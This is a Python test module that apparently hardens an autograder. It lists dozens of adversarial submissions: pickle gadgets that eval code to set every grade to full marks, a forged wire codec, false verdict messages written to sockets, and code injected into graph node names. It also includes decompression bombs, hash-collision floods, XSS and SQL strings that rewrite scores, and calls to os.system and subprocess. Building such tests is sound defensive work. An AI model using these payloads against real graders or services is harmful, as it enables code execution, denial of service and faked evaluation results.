"""Data: what leaves the learner's process is written by hand, from single values up to the bytes on the connection.

The judge's side reads values with a codec (`autograder.engine.wire`): eight bytes, a JSON document
`[value, storages, tensors, shapes, modules, graphs]`, and a safetensors file. Here the codec in the worker is replaced,
so that anything may stand in there. The code that is hidden in these payloads would set the judge's points to full.
"""

from __future__ import annotations

from tests.attacks.attack import Attack, answer, cell, read

#: An expression that, wherever the judge's side evaluates it, makes every judgement one of full marks.
_EVIL = "setattr(__import__('passlab.judge').judge.Judgement, 'points', property(lambda j: j.total))"

_FORGE = f"""
import json, os, struct
try:
    from autograder.engine import wire
except ImportError:  # graded without the engine
    wire = type("wire", (), {{"encode": None}})
honest, turn = wire.encode, 0
EVIL = {_EVIL!r}

def parts(payload):
    size = struct.unpack_from("<4sI", payload)[1]
    return json.loads(payload[8 : 8 + size]), payload[8 + size :]

def whole(document, file=b""):
    text = document if isinstance(document, bytes) else json.dumps(document).encode()
    return struct.pack("<4sI", b"PLW1", len(text)) + text + file

def forged(value):
    global turn
    turn += 1
    made = change(*parts(honest(value)))
    return made if isinstance(made, bytes) else whole(*made)

wire.encode = forged

def dce(gm):
    return gm
"""


def _payload(name: str, tries: str, change: str, **more) -> Attack:
    """An answer whose value is changed on its way out. `change(document, file)` gives both anew, or a payload."""
    return answer(name, tries, _FORGE + change, **more)


def _column(name: str, tries: str, choices: str, number: int, ops: str = "") -> Attack:
    """Put something else into one column of the rows of nodes, each time another.

    A row is [name, op, target, args, kwargs, type, notes, of another graph]; `ops`: how the op may begin.
    """
    change = f"""
def change(document, file):
    choices = {choices.strip()}
    for nodes, strays in document[-1]:
        for row in nodes:
            if row[1].startswith({tuple(ops.split(","))}):
                row[{number}] = choices[turn % len(choices)]
    return document, file
"""
    return _payload(name, tries, change)


_CONNECTIONS = """
import os, socket, stat

def connections():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass

def message(head, payload=b""):
    import json, struct
    text = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack("!QQ", len(text), len(payload)) + text + payload

def write(fd, data):
    try:
        os.set_blocking(fd, False)
        os.write(fd, data)
        os.set_blocking(fd, True)
    except OSError:
        pass
"""

_CLAIMS = """
verdicts = {"valid": True, "same": True, "did": True, "spared": True}
full = {"status": "ok", "points": 5.0, "total": 5.0, "verdicts": verdicts, "error": "", "error_kind": "", "printed": 0,
        "seconds": 0.0, "in_place": False, "ok": True, "learner": "zz-after"}
"""


def _connected(name: str, tries: str, code: str, **more) -> Attack:
    return cell(name, tries, _CONNECTIONS + _CLAIMS + code, **more)


def _connection(name: str, tries: str, code: str) -> tuple[Attack, Attack]:
    """Writing to every connection there is: from a cell, and from an answer."""
    inside = "".join(f"    {line}\n" for line in code.strip().split("\n"))
    return (
        _connected(f"{name}-by-cell", f"{tries}; from a cell", code, keeps=False),
        answer(f"{name}-by-answer", tries, f"{_CONNECTIONS}{_CLAIMS}\ndef dce(gm):\n{inside}    return gm\n"),
    )


ATTACKS = read(
    r"""
# %% connection frames-verdicts
# messages on every connection claim verdicts, points, and results of another learner
for fd in connections():
    for head in (full, {"verdicts": [full] * 6}, {"ran": {"outputs": []}, "index": 3}, {"done": True}, {"over": 3}):
        write(fd, message(head, b"5.0"))

# %% connection frames-huge
# messages that say they are ten gigabytes long, or longer than numbers go
import struct
for fd in connections():
    write(fd, struct.pack("!QQ", 2**40 if fd % 2 else 100, 10 * 2**30 if fd % 3 else 2**64 - 1) + b"{}")

# %% connection frames-garbage
# garbage on every connection: random bytes, deep JSON, JSON that is no message, halves of characters
for number, fd in enumerate(connections()):
    heads = (b"[" * 100_000, [1], b'{"status": NaN, "error": "\\ud800"}', b"\xff")
    for data in (os.urandom(4096), *map(message, heads))[number % 5 :]:
        write(fd, data)

# %% connection frames-half
# half a message, and then nothing
import time
for fd in connections():
    write(fd, message(full)[:11])
time.sleep(100)

# %% connection frames-closed
# every connection is closed, or leads into another one
held = list(connections())
for fd in held[::2]:
    os.dup2(held[0], fd)
for fd in held[1:]:
    os.close(fd)

# %% connection frames-stolen
# what comes in on every connection is read before whoever it is for, and sent back
import threading
def steal(fd):
    while data := os.read(fd, 1 << 16):
        print(data)
        os.write(fd, data)
for fd in connections():
    threading.Thread(target=steal, args=(fd,), daemon=True).start()

# %% connected answers-first keeps=False
# every question's connection holds answers, all of them right by their own word, before it is asked
try:
    from autograder.engine import wire
    payload = wire.encode(None)
except ImportError:
    payload = b""
for fd in connections():
    for _ in range(8):
        write(fd, message(full, payload))

# %% answer lying-heads keeps=False
# what is told about a case is of wrong types, endless, negative, and holds scripts
from autograder.engine.runner import worker
from autograder.engine import outcomes
turn = 0
odd = [
    {"status": ["ok"], "error": {"a": 1}, "printed": -5, "seconds": "x"},
    {"status": "ok", "seconds": 1e308, "printed": 10**400},
    {"status": "died", "error": "<script>plattack()</script>"},
    {"status": "raised", "error": "x" * 10**6},
    {"status": "stub"},
]
def to_wire(outcome):
    global turn
    turn += 1
    return odd[turn % 5], b"5.0"
outcomes.to_wire = worker.to_wire = to_wire

def dce(gm):
    return gm

# %% payload no-payload
# no bytes, random bytes, another header, a length that is not there
def change(document, file):
    too_long = struct.pack("<4sI", b"PLW1", 2**32 - 1) + b"{}"
    return (b"", os.urandom(500), b"PLW9" + bytes(8), too_long, b"PLW1")[turn % 5]

# %% payload pickle-payload
# pickles that run code: as payload, as document, as tensor file, as what torch.save writes
import io, pickle, torch

class Gadget:
    def __reduce__(self):
        return eval, (EVIL,)

def change(document, file):
    text, saved = pickle.dumps(Gadget()), io.BytesIO()
    torch.save({"a": Gadget()}, saved)
    return (text, whole(text), whole(document, text), saved.getvalue(), whole(document, saved.getvalue()))[turn % 5]

# %% payload forbidden-functions
# nodes call os.system, eval, torch.load, attrgetter, exec, import and what else opens doors
doors = ("os.system", "builtins.eval", "builtins.exec", "builtins.__import__", "torch.load", "operator.attrgetter",
         "operator.methodcaller", "subprocess.Popen", "torch.hub.load", "pickle.loads", "builtins.open", "aten.set_",
         "torch.Tensor.map_", "aten.from_file.default", "torch.utils.cpp_extension.load", "math.__loader__")

def change(document, file):
    for nodes, strays in document[-1]:
        for number, row in enumerate(nodes):
            if row[1].startswith("call"):
                row[1], row[2], row[3] = "call_function", ["fn", doors[(turn + number) % len(doors)]], ["t", EVIL]
    return document, file

# %% payload attribute-chain
# getattr nodes climb from a tensor to its class, to a function, to its globals
def change(document, file):
    for nodes, strays in document[-1]:
        last = len(nodes) - 1
        for way in ("__class__", "__init__", "__globals__", "__self__", "grad_fn", "data_ptr"):
            operands = ["t", ["n", last - 1], way]
            row = [f"a{last}", "call_function", ["fn", "builtins.getattr"], operands, ["d"], None, ["d"], False]
            nodes.insert(last, row)
            last += 1
    return document, file

# %% column code-in-names number=0
# names of nodes are lines of code
[f"x = 1; {EVIL}; y", f"{EVIL}", f"x\n    {EVIL}"]

# %% column code-in-inputs number=2 ops=placeholder
# names of inputs are code, as a default value and as more lines
[f"x={EVIL}", f"x):\n {EVIL}\n#", "*" * 50 + "x", f"x: ({EVIL})"]

# %% column code-in-keywords number=4
# names of keyword arguments are code
[["d", name, 1] for name in (f"out={EVIL}, a", f"a=1);{EVIL};f(b", "__class__", "self")]

# %% column code-in-paths number=2 ops=get_attr,call_module
# paths of attributes and modules are code, or lead through __class__
[f'w"]; {EVIL}; x["', "__class__.__init__.__globals__", "w.__class__", f"w\n{EVIL}", "w.data"]

# %% column code-in-texts number=3 ops=call
# text operands close their quotes, begin new lines, and hold the marks of the code generator
[["t", f"'); {EVIL} #", f"\n{EVIL}\n"], ["t", "# COUNTER: 1"], ["t", "\\", '"']]

# %% column code-in-kinds number=3 ops=call
# dtypes, devices, formats and classes are code
[["t", [tag, EVIL]] for tag in ("dt", "dv", "mf", "ty", "rec")]

# %% column code-in-annotations number=5
# the types that nodes are said to have are code
[EVIL, ["ty", EVIL], f"int = {EVIL}", f"int\n    {EVIL}"]

# %% payload code-in-settings
# modules with settings that are code, hide methods, and replace what torch keeps in a module
def change(document, file):
    settings = [["forward", EVIL], ["padding_mode", EVIL], ["_forward_hooks", ["d", "a", EVIL]], ["__class__", EVIL],
                ["_code", EVIL], ["__dict__", ["d"]], ["_parameters", ["d", "w", EVIL]], ["training", EVIL]]
    kind = ("torch.nn.Linear", "os.system", "torch.nn.Module", "builtins.eval", EVIL)[turn % 5]
    document[-2].append([kind, False, [], [], [], settings[turn % 8 :]])
    for row in document[-2]:
        if row[0] == "GraphModule":
            row[4].append(["evil", ["M", len(document[-2]) - 1]])
            row[-2] = EVIL
    return document, file

# %% payload cycles
# nodes that are their own operands, modules in themselves, graphs in their own operands, lists in a circle
def change(document, file):
    for number, (nodes, strays) in enumerate(document[-1]):
        for place, row in enumerate(nodes):
            row[3] = ["t", ["n", (place + 1) % len(nodes)], ["n", place], ["G", number], ["N", number, place]]
    for number, row in enumerate(document[-2]):
        if turn % 2:
            row[4].append(["again", ["M", number]])
    return document, file

# %% payload places-that-are-not
# references to nodes, tensors, modules and graphs that are not there, negative, huge, or no numbers
def change(document, file):
    for nodes, strays in document[-1]:
        for row in nodes:
            row[3] = ["t", [("n", "T", "M", "G", "N", "sh")[turn % 6], (-1, 10**9, 2**63, "0", None, [0])[turn % 6]]]
    return document, file

# %% payload absurd-shapes
# tensors with negative, huge, overlapping and missing dimensions, outside of their memory
def change(document, file):
    shapes = ([2**40], [-1, 2], [2**32, 2**32], [1] * 100_000, ["2"], [0, 2**62], [2, 2])
    strides = ([1], [1, 1], [0, 0], [0] * 100_000, ["1"], [2**61, 1], [-2, 1])
    for row in document[2]:
        row[2], row[3], row[4] = shapes[turn % 7], strides[turn % 7], (0, -8, 2**60)[turn % 3]
    for row in document[1]:
        row[0] = (16, 2**50, -1, 0)[turn % 4]
    return document, file

# %% payload not-numbers
# NaN and infinities where numbers belong, in the JSON and in the tensors
def change(document, file):
    text = json.dumps(document).encode()
    for nodes, strays in document[-1]:
        for row in nodes:
            row[3] = ["t", float("nan"), ["f", "nan"], ["f", "x"], ["i", "zz"], ["i", "f" * 10**6], ["c", 1e999, 2]]
    if turn % 2:
        return document, file[: len(file) - 16] + b"\xff" * 16
    return whole(text.replace(b"1", b"-Infinity"), file)

# %% payload lying-tensor-file
# safetensors headers that lie: lengths, offsets, overlaps, shapes, names, deep JSON
def change(document, file):
    headers = (b'{"0": {"dtype": "U8", "shape": [99999999999], "data_offsets": [0, 99999999999]}}', b"[" * 50_000,
               b'{"0": {"dtype": "U8", "shape": [16], "data_offsets": [-16, 0]}}', b"{}",
               b'{"0": {"dtype": "F4096", "shape": []}}')
    header = headers[turn % 5]
    size = (len(header), 2**63, 0, len(header), 10**9)[turn % 5]
    return document, struct.pack("<Q", size) + header + b"1" * 16

# %% payload compressed
# archives that grow a thousandfold, instead of a document and instead of a tensor file
import bz2, gzip, zlib
bombs = zlib.compress(bytes(10**8)), gzip.compress(bytes(10**7)), bz2.compress(bytes(10**8))

def change(document, file):
    bomb = bombs[turn % 3]
    return whole(bomb) if turn % 2 else (document, bomb)

# %% payload deep-document
# documents that are nested a hundred thousand levels deep
def change(document, file):
    depth = 100_000
    return whole((b"[" * depth + b"]" * depth, b'{"a":' * depth + b"1" + b"}" * depth, b"[" * 10**6)[turn % 3])

# %% payload broad-document
# documents as large as may be, of the smallest parts there are
broad = whole(b"[" + b"[]," * (10 * 2**20) + b"0]")

def change(document, file):
    return broad

# %% payload wrong-tags
# every tag of the codec with too few, too many and wrong parts
tags = "t l sz d s fs c b sl r ... dt mf lo dv N n G M T sh ty fn rec i f o no xx".split()

def change(document, file):
    for nodes, strays in document[-1]:
        for number, row in enumerate(nodes):
            row[3] = ["t", *[[tag, *([EVIL] * ((turn + number) % 4))] for tag in tags[(number * 3) % 29 :]]]
    document[0] = [[tags[turn % 29], EVIL], document[0], tags, None, {"a": 1}][turn % 5]
    return document, file

# %% payload random-damage honest=3
# single bytes of honest payloads are changed at random
import random

def change(document, file):
    data = bytearray(whole(document, file))
    rng = random.Random(turn)
    for _ in range(1 + turn % 4):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(data)

# %% answer not-a-number at=functions
# a graph that computes NaN, in the hope that nothing is unequal to it
def functions(gm):
    for node in gm.graph.nodes:
        if node.op == "get_attr":
            getattr(gm, node.target).fill_(float("nan"))
    for node in gm.graph.nodes:
        if node.op == "output":
            with gm.graph.inserting_before(node):
                node.args = (gm.graph.call_function(torch.mul, (node.args[0], float("nan"))),)
    return gm

# %% answer memory-of-before earns=3
# a graph that returns memory nobody has written to, where the right result may still stand
def dce(gm):
    graph = fx.Graph()
    graph.placeholder("x")
    graph.output(graph.call_function(torch.empty, ((2, 2),)))
    return fx.GraphModule(gm, graph)  # it is valid, and nothing dead is left

# %% answer outside-of-tensors
# a graph that reads and writes outside of its tensors, if the kernels let it
def dce(gm):
    for node in gm.graph.nodes:
        if node.op == "output":
            with gm.graph.inserting_before(node):
                x = node.args[0]
                far = gm.graph.call_function(torch.as_strided, (x, (2, 2), (2**40, 2**40), 2**50))
                gm.graph.call_method("scatter_", (x, 0, far, 7.0))
                gm.graph.call_function(torch.embedding, (x, far))
                gm.graph.call_method("resize_", (x, (2**33, 2)))
                gm.graph.call_method("index_put_", (x, (far,), 5.0))
    return gm

# %% answer settings-of-the-judge
# a graph whose nodes would change settings of the judge's process: seeds, dtypes, modes, printing
def dce(gm):
    first = next(iter(gm.graph.nodes))
    with gm.graph.inserting_after(first):
        for setting in (torch.set_default_dtype, torch.manual_seed, torch.set_grad_enabled, torch.set_num_threads,
                        torch.use_deterministic_algorithms, torch.set_printoptions, torch.autograd.set_detect_anomaly):
            gm.graph.call_function(setting, (torch.float64,))
    return gm

# %% answer script-in-names
# names, texts and keys that come back hold scripts and SQL (plattack)
def dce(gm):
    for node in gm.graph.nodes:
        node.name = "<script>plattack()</script>"
    return gm

def cse(gm):
    gm.graph.create_node("get_attr", "<img src=x onerror=plattack()>")
    return gm

def functions(gm):
    return "'; update grade set auto_score = 5; --<script>plattack()</script>"

def constant_fold(gm):
    raise type("<script>plattack()</script>", (Exception,), {})("<script>plattack()</script>")

# %% payload keys-collide keeps=False
# a dict with two hundred thousand keys of one hash, which takes the judge minutes to build
def change(document, file):
    wire.encode = honest
    prime = 2**61 - 1
    document[0] = ["d", *(part for number in range(1, 200_000) for part in (["i", hex(number * prime << 9)], 0))]
    return document, file

# %% payload code-in-symbols
# symbolic sizes in the notes of nodes have code as their text
def change(document, file):
    for nodes, strays in document[-1]:
        for row in nodes:
            row[6] = ["d", "val", ["sy", EVIL, 3]]
    return document, file

# %% answer wide-node
# one node reads the input three hundred thousand times
import torch

def dce(gm):
    x, *_, out = gm.graph.nodes
    with gm.graph.inserting_before(out):
        out.args = (gm.graph.call_function(torch.cat, ([x] * 300_000,)),)
    return gm

# %% answer claims-in-notes at=functions
# nodes say of themselves that they have 2**40 elements and are of another type
import torch

def functions(gm):
    for node in gm.graph.nodes:
        node.meta = {"val": torch.empty(2**40, device="meta"), "type": torch.nn.Parameter}
        node.type = "x" * 900
    return gm

# %% answer expanded-buffer at=constant-fold
# a buffer of 2**50 elements takes four bytes, and the graph reads it
import torch

def constant_fold(gm):
    gm.register_buffer("huge", torch.zeros(1).expand(2**25, 2**25))
    for node in gm.graph.nodes:
        if node.op == "get_attr":
            node.target = "huge"
    return gm

# %% answer changed-while-sent
# a thread changes the names of the graph's nodes while they are sent
import threading

def dce(gm):
    def change():
        while True:
            for node in list(gm.graph.nodes):
                node.name = node.name[:900] + "x"
    threading.Thread(target=change, daemon=True).start()
    return gm

# %% answer signals-while-sent keeps=False
# a timer raises KeyboardInterrupt a thousand times a second while values are sent, or in the answer if it is slow
import signal

def raises(*_):
    raise KeyboardInterrupt

def dce(gm):
    signal.signal(signal.SIGVTALRM, raises)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
    return gm
""",
    payload=_payload,
    column=_column,
    connected=_connected,
    connection=_connection,
)
